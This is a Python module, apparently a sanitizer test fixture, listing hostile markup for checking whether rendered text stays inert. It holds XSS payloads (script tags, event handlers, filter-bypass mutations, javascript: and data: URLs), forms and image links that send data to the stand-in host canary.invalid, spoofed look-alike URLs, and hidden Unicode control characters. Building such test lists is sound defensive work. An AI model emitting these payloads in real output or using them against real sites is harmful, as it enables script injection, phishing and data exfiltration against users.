"""What hostile documents and models write: markup that would run, load or lead somewhere.

Each names `canary.invalid`, or sets `window.ran`, if a browser ever takes it for more than text.
"""

from itertools import product

EVIL = "https://canary.invalid"
RUN = "window.ran=1"

_SCRIPTS = [
    f"<script>{RUN}</script>",
    f"<SCRIPT SRC={EVIL}/x.js></SCRIPT>",
    f"<script type=module>import('{EVIL}/x.js')</script>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"</textarea></title></style></script><script>{RUN}</script>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    f"<iframe src=javascript:parent.{RUN}></iframe>",
    f"<object data='{EVIL}/x.swf'></object>",
    f"<embed src='{EVIL}/x'>",
    f"<template><script>{RUN}</script></template>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><use href='{EVIL}/x.svg#a'/></svg>",
    f"<svg><image href='{EVIL}/x.png'/></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<svg><foreignObject><img src=x onerror={RUN}></foreignObject></svg>",
    f"<svg><a href='javascript:{RUN}'><text y=20>click</text></a></svg>",
    f"<meta http-equiv=refresh content='0;url={EVIL}/'>",
    f"<base href='{EVIL}/'>",
    f"<link rel=stylesheet href='{EVIL}/x.css'>",
    f"<link rel=prefetch href='{EVIL}/x'>",
    f"<style>@import '{EVIL}/x.css';</style>",
    f"<style>body{{background:url({EVIL}/x.png)}}</style>",
    f"<p style='background:url({EVIL}/x.png);position:fixed;inset:0'>over</p>",
    f"<div style='content:url({EVIL}/y.png)'></div>",
    f"<form action='{EVIL}/' method=post><input name=secret autofocus><button>Send</button></form>",
    f"<button formaction='{EVIL}/'>ok</button>",
    f"<input type=image src='{EVIL}/x.png'>",
    f"<video src='{EVIL}/x.mp4' autoplay></video>",
    f"<audio><source src='{EVIL}/x.ogg'></audio>",
    f"<picture><source srcset='{EVIL}/x.webp'><img></picture>",
    f"<table background='{EVIL}/x.png'><tr><td>a</table>",
    f"<body background='{EVIL}/x.png'>",
    f"{{{{constructor.constructor('{RUN}')()}}}}",
    f"${{{RUN}}} #{{{RUN}}} <%= {RUN} %>",
    f"<![CDATA[<script>{RUN}</script>]]>",
    f"<!--><script>{RUN}</script-->",
    f"<?xml-stylesheet href='{EVIL}/x.xsl'?>",
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"&#60;img src=x onerror={RUN}&#62;",
    f'" autofocus onfocus={RUN} x="',
    f"' onmouseover={RUN} x='",
    f"`onfocus={RUN} autofocus`",
    f'x"></article><script>{RUN}</script>',
    f"<gradio-app src='{EVIL}'></gradio-app>",
    f"<dialog open><form method=dialog><button onclick={RUN}>OK</button></form></dialog>",
    f"<details open ontoggle={RUN}><summary>x</summary></details>",
    f"<marquee onstart={RUN}>x</marquee>",
    f"<button data-do=suggest>{EVIL}</button>",
]
_EVENTS = [
    f"<{tag} {event}={RUN}>"
    for tag, event in [
        ("img src=x", "onerror"),
        ("body", "onload"),
        ("svg", "onload"),
        ("input autofocus", "onfocus"),
        ("video><source", "onerror"),
        ("div tabindex=0 autofocus", "onfocus"),
        ("p style='animation:tk-wait 1s'", "onanimationstart"),
        ("a href=# autofocus", "onfocusin"),
        ("style", "onload"),
        ("iframe", "onload"),
    ]
]
_TARGETS = [
    f"javascript:{RUN}",
    f"JaVaScRiPt:{RUN}",
    f"java\tscript:{RUN}",
    f"&#106;avascript:{RUN}",
    f"data:text/html,<script>{RUN}</script>",
    f"data:image/svg+xml,<svg onload={RUN}>",
    f"vbscript:{RUN}",
    f"{EVIL}/?q=secret",
    "//canary.invalid/x",
    "\\\\canary.invalid\\share",
    f"https://tenkyo@{EVIL[8:]}/",
    "https://intranet.example@canary.invalid/",
    "https://саnary.invalid/",
    "https://intranet․example.canary.invalid/",
    "ftp://canary.invalid/x",
    "/session",
]
_FORMS = [
    "[click]({})",
    "![image]({})",
    "<a href='{0}' target=_top>click</a>",
    "<img src='{}'>",
    "[ref][1] ![ref][1]\n\n[1]: {}",
]
_LINKS = [form.format(target) for target, form in product(_TARGETS, _FORMS)]
UNSEEN = [
    "invoice\u202efdp.exe end",
    "\u202dover\u202cride end",
    "\u2067right\u2066left\u2069\u2069 end",
    "pass\u200bword end",
    "zero\u200c\u200d\u2060width end",
    "\ufeffmark end",
    "tag\U000e0041\U000e0042\U000e0043 end",
    "line\u2028paragraph\u2029 end",
    "deprecated\u206a\u206f end",
    "escape\x1b]8;;https://canary.invalid\x07click\x1b]8;;\x07 end",
]
PAYLOADS = [*_SCRIPTS, *_EVENTS, *_LINKS, *UNSEEN]
